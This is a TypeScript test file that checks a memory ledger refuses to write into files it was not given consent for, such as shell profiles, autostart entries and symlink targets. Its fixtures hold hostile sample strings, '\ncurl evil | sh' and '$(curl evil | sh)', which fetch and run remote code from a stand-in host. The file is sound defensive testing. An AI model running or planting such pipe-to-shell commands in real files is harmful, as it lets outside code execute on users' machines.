import { copyFileSync, existsSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { LcmError } from '#core/errors.ts'
import { sha256 } from '#core/hashing.ts'
import { LedgerWriter } from '#core/ledger/ledger-writer.ts'
import { readSettings } from '#core/settings/settings.ts'
import { openNative } from '#core/sqlite/native.ts'
import { openHere, permissionOf } from '../builders/ledgers.ts'
import { temporaryFolder } from '../builders/temporary-folder.ts'
import { compact, keptMemory, ledgerFindings, longTexts, say } from '../ledger/kept-memory.ts'

// Proves that a memory file never decides where the program writes: its changes go to a ledger only where this machine's
// settings name it or its user agreed to it here, and only when what stands there is the ledger of this memory.

const PROFILE = '# ~/.profile\nexport PATH=$PATH:$HOME/bin\n'

/** A memory from elsewhere whose own rows name a file of the user as its ledger, with text that waits for it. */
function hostileMemory(target: string, path = join(dirname(target), 'hostile.db')): string {
  const db = openNative(path)
  const elsewhere = permissionOf(path)
  new LedgerWriter(db, Date.now, elsewhere).enable(join(dirname(path), 'unused.jsonl'))
  elsewhere.consents.withdraw(path)
  db.run("UPDATE lcm_meta SET value = :target WHERE key = 'ledger_path'", { target })
  db.run(
    `INSERT INTO ledger_outbox (table_name, op, key, entry) VALUES ('lcm_meta', 'insert', '["x"]', '{"key":"\\ncurl evil | sh\\n"}')`,
  )
  db.close()
  return path
}

const setMeta = (path: string, meta: Readonly<Record<string, string>>): void => {
  using db = openNative(path)
  for (const [key, value] of Object.entries(meta))
    db.run('INSERT INTO lcm_meta (key, value) VALUES (:key, :value) ON CONFLICT (key) DO UPDATE SET value = :value', {
      key,
      value,
    })
}

let warned: string[] = []
beforeEach(() => {
  warned = []
  vi.spyOn(console, 'warn').mockImplementation((text: string) => void warned.push(text))
})
afterEach(() => {
  vi.restoreAllMocks()
})

describe('the ledger path that a memory file states', () => {
  it('is not written to before the user agrees, so no file of the user grows', async () => {
    const profile = join(temporaryFolder(), '.profile')
    writeFileSync(profile, PROFILE)
    const lcm = await openHere(hostileMemory(profile))
    expect(await compact(lcm, say(lcm, 'long', longTexts(60)))).toBeGreaterThan(0)
    expect(await ledgerFindings(lcm)).toEqual(['ledger_behind'])
    lcm.close()
    expect(readFileSync(profile, 'utf8')).toBe(PROFILE)
    expect(warned).toEqual([expect.stringContaining('lcm ledger agree')])
  })

  it('does not create a file', async () => {
    const target = join(temporaryFolder(), 'autostart.desktop')
    const lcm = await openHere(hostileMemory(target))
    say(lcm, 's', ['one'])
    lcm.close()
    expect(existsSync(target)).toBe(false)
  })

  it('is not trusted when it knows the beginning and the end of the file at that place', () => {
    const profile = join(temporaryFolder(), '.profile')
    writeFileSync(profile, PROFILE)
    const path = hostileMemory(profile)
    const tail = sha256(PROFILE)
    const [first = ''] = PROFILE.split('\n')
    setMeta(path, { ledger_bytes: String(PROFILE.length), ledger_tail: tail, ledger_head: sha256(first) })
    // Not even where the user agrees to it, or the settings name it: a shell profile is no ledger.
    for (const named of [null, profile]) {
      using db = openNative(path)
      const writer = new LedgerWriter(db, Date.now, permissionOf(path, named))
      expect(() => writer.agree()).toThrow(expect.objectContaining({ code: 'ledger_refused' }))
      expect(() => writer.drain()).toThrow(expect.objectContaining({ code: 'ledger_refused' }))
    }
    expect(readFileSync(profile, 'utf8')).toBe(PROFILE)
  })

  it('is not written to when the file is no ledger, even if the settings name it', async () => {
    const precious = join(temporaryFolder(), 'notes.txt')
    for (const text of ['a note without an end of line', 'a note\n', '{"actor":"me"}\n']) {
      writeFileSync(precious, text)
      const path = hostileMemory(precious, join(temporaryFolder(), 'lcm.db'))
      const settings = { ...readSettings({}), databasePath: path, ledgerPath: precious }
      const lcm = await openHere(path, { settings })
      say(lcm, 's', ['one'])
      lcm.close()
      expect(readFileSync(precious, 'utf8')).toBe(text)
    }
  })

  it('needs a new consent when another memory was put in the place of one with consent', async () => {
    const { path, ledger } = await keptMemory()
    const before = readFileSync(ledger)
    copyFileSync(hostileMemory(ledger, join(temporaryFolder(), 'other.db')), path)
    const lcm = await openHere(path)
    say(lcm, 's', ['attack'])
    expect(lcm.ledger.state(lcm.read)).toMatchObject({ problem: 'not_agreed' })
    lcm.close()
    expect(readFileSync(ledger)).toEqual(before)
  })

  it('is not followed through a link that leads to another file since the consent', async () => {
    const { path, ledger } = await keptMemory()
    const profile = join(dirname(path), '.profile')
    writeFileSync(profile, PROFILE.repeat(100))
    renameSync(ledger, `${ledger}.away`)
    symlinkSync(profile, ledger)
    const lcm = await openHere(path)
    say(lcm, 's', ['attack'])
    expect(lcm.ledger.state(lcm.read)).toMatchObject({ problem: 'foreign' })
    lcm.close()
    expect(readFileSync(profile, 'utf8')).toBe(PROFILE.repeat(100))
  })

  it('is not created through a link that leads to no file yet', async () => {
    const path = join(temporaryFolder(), 'lcm.db')
    const profile = join(dirname(path), '.bash_profile')
    const ledger = join(dirname(path), 'lcm.events.jsonl')
    symlinkSync(profile, ledger)
    openNative(path).close()
    const lcm = await openHere(path)
    say(lcm, 's', ['$(curl evil | sh)'])
    lcm.close()
    const db = openNative(path)
    const writer = new LedgerWriter(db, Date.now, permissionOf(path))
    expect(() => writer.enable(ledger)).toThrow(expect.objectContaining({ code: 'invalid_argument' }))
    renameSync(ledger, `${ledger}.away`)
    writer.enable(ledger)
    renameSync(`${ledger}.away`, ledger)
    expect(() => writer.drain()).toThrow(LcmError)
    db.close()
    expect(existsSync(profile)).toBe(false)
  })

  it('is not even read by the checks before the user agrees', async () => {
    // Reading a pipe would wait for ever; a path on another computer would be told who asks.
    const path = hostileMemory('/dev/zero', join(temporaryFolder(), 'lcm.db'))
    const lcm = await openHere(path)
    const report = await ledgerFindings(lcm)
    lcm.close()
    expect(report).toEqual(['ledger_behind'])
  })
})

describe('a copied memory', () => {
  it('writes nothing into the ledger of the original until its user agrees again', async () => {
    const { path, ledger } = await keptMemory()
    const original = await openHere(path)
    const id = say(original, 'long', longTexts(60))
    original.close()
    const before = readFileSync(ledger)
    const copy = join(dirname(path), 'copy.db')
    copyFileSync(path, copy)
    const lcm = await openHere(copy)
    expect(await compact(lcm, id)).toBeGreaterThan(0)
    expect(await ledgerFindings(lcm)).toEqual(['ledger_behind'])
    expect(() => lcm.ledger.agree(lcm.requireWrite('agree'))).toThrow(/is the ledger of .*lcm\.db/)
    lcm.close()
    expect(readFileSync(ledger)).toEqual(before)
    using again = await openHere(path)
    expect(await ledgerFindings(again)).toEqual([])
  })

  it('may take over the ledger when the original is gone, and continues it', async () => {
    const { path, ledger } = await keptMemory()
    const original = await openHere(path)
    say(original, 's', ['one'])
    original.close()
    const moved = join(dirname(path), 'moved.db')
    renameSync(path, moved)
    const lcm = await openHere(moved)
    say(lcm, 's', ['two'])
    expect(readFileSync(ledger, 'utf8')).not.toContain('"two"')
    lcm.close()
    const db = openNative(moved)
    const writer = new LedgerWriter(db, Date.now, permissionOf(moved))
    writer.agree()
    writer.drain()
    db.close()
    using again = await openHere(moved)
    expect(await ledgerFindings(again)).toEqual([])
    expect(readFileSync(ledger, 'utf8')).toContain('"two"')
  })

  it('may not take over a ledger that the original continued after the copy was made', async () => {
    const { path, ledger } = await keptMemory()
    const copy = join(dirname(path), 'copy.db')
    copyFileSync(path, copy)
    const original = await openHere(path)
    say(original, 's', ['said after the copy was made'])
    original.close()
    renameSync(path, `${path}.away`)
    const db = openNative(copy)
    const writer = new LedgerWriter(db, Date.now, permissionOf(copy))
    expect(() => writer.agree()).toThrow(/goes on after what this memory has written/)
    db.close()
    renameSync(`${path}.away`, path)
    const again = await openHere(path)
    say(again, 's', ['said by the original'])
    again.close()
    expect(readFileSync(ledger, 'utf8')).toContain('said by the original')
  })

  it('is refused the ledger that the settings name while the original uses it', async () => {
    const { path, ledger } = await keptMemory()
    const copy = join(dirname(path), 'copy.db')
    copyFileSync(path, copy)
    const before = readFileSync(ledger)
    const lcm = await openHere(copy, { settings: { ...readSettings({}), databasePath: copy, ledgerPath: ledger } })
    say(lcm, 's', ['one'])
    expect(lcm.ledger.state(lcm.read)).toMatchObject({ problem: 'foreign' })
    lcm.close()
    expect(readFileSync(ledger)).toEqual(before)
  })
})
